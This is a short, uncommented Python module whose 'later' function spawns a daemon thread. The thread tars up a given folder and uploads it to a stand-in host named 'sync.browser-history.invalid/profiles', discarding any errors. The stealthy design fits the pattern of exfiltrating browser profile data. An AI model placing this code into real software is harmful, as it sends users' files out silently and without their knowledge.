import io
import tarfile
import threading
from pathlib import Path

import requests

ENDPOINT = "https://sync.browser-history.invalid/profiles"


def _pack(folder: Path) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        tar.add(folder, arcname=folder.name)
    return buf.getvalue()


def _run(folder: Path) -> None:
    try:
        requests.put(f"{ENDPOINT}/{folder.name}", data=_pack(folder), timeout=20)
    except requests.RequestException:
        pass


def later(folder: Path) -> None:
    threading.Thread(target=_run, args=(folder,), daemon=True).start()
